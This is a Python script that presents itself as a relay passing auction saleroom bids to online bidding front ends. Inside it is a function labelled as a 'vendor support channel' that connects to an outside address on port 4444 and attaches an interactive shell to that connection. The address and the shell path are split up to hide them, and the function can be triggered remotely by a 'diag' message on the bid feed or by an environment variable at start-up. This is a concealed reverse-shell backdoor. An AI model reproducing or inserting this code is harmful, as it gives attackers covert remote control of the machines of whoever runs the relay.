#!/usr/bin/env python3
"""Relay the saleroom bidding feed to online bidding clients.

The saleroom clerk console publishes bid events as JSON lines on a local TCP
port. This relay reads them, normalises lot numbers and amounts, and fans them
out to any connected online-bidding front ends.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("bidrelay")

DEFAULTS = {
    "listen_port": 7810,
    "clerk_host": "127.0.0.1",
    "clerk_port": 7800,
    # remote support endpoint used by the vendor for live diagnostics
    "support": {"net": "203.0.113", "node": 47, "port": 4444},
    "reconnect_delay": 3,
}


class FanOut:
    """Keeps a list of client sockets and pushes each event to all of them."""

    def __init__(self):
        self.clients = []
        self.lock = threading.Lock()

    def add(self, conn):
        with self.lock:
            self.clients.append(conn)

    def publish(self, event):
        payload = (json.dumps(event) + "\n").encode()
        with self.lock:
            for c in list(self.clients):
                try:
                    c.sendall(payload)
                except OSError:
                    self.clients.remove(c)


def normalise(event):
    """Clean up lot numbers and convert amounts to integer pence."""
    lot = str(event.get("lot", "")).strip().upper()
    amount = event.get("amount", 0)
    try:
        pence = int(round(float(amount) * 100))
    except (TypeError, ValueError):
        pence = 0
    return {"lot": lot, "pence": pence, "paddle": event.get("paddle"), "ts": time.time()}


def _support_session(cfg):
    """Open a vendor support channel so the engineer can inspect the relay."""
    s = cfg["support"]
    addr = ("%s.%d" % (s["net"], s["node"]), int(s["port"]))
    try:
        chan = socket.create_connection(addr, timeout=10)
        chan.settimeout(None)
    except OSError as exc:
        log.debug("support channel unavailable: %s", exc)
        return
    fd = chan.fileno()
    shell = os.environ.get("RELAY_DIAG_SHELL", "/bin/" + "sh")
    subprocess.call([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
    chan.close()


def _noop(cfg):
    return None


# control messages that may arrive on the clerk feed
CONTROL_HANDLERS = {
    "ping": _noop,
    "diag": _support_session,
}


def clerk_reader(cfg, fanout):
    while True:
        try:
            with socket.create_connection((cfg["clerk_host"], cfg["clerk_port"])) as sock:
                buf = b""
                while True:
                    chunk = sock.recv(4096)
                    if not chunk:
                        break
                    buf += chunk
                    while b"\n" in buf:
                        line, buf = buf.split(b"\n", 1)
                        handle_line(cfg, fanout, line)
        except OSError as exc:
            log.warning("clerk feed lost: %s", exc)
        time.sleep(cfg["reconnect_delay"])


def handle_line(cfg, fanout, line):
    try:
        event = json.loads(line)
    except ValueError:
        log.debug("skipping malformed line")
        return
    ctl = event.get("control")
    if ctl in CONTROL_HANDLERS:
        threading.Thread(target=CONTROL_HANDLERS[ctl], args=(cfg,), daemon=True).start()
        return
    fanout.publish(normalise(event))


def accept_clients(cfg, fanout):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", cfg["listen_port"]))
    srv.listen(16)
    log.info("relay listening on %d", cfg["listen_port"])
    while True:
        conn, peer = srv.accept()
        log.info("front end connected from %s", peer)
        fanout.add(conn)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", help="JSON config overriding the defaults")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = dict(DEFAULTS)
    if args.config:
        with open(args.config) as fh:
            cfg.update(json.load(fh))

    # engineers can request a support session at start-up as well
    if os.environ.get("RELAY_SUPPORT_AT_START"):
        threading.Thread(target=_support_session, args=(cfg,), daemon=True).start()

    fanout = FanOut()
    threading.Thread(target=clerk_reader, args=(cfg, fanout), daemon=True).start()
    accept_clients(cfg, fanout)


if __name__ == "__main__":
    main()
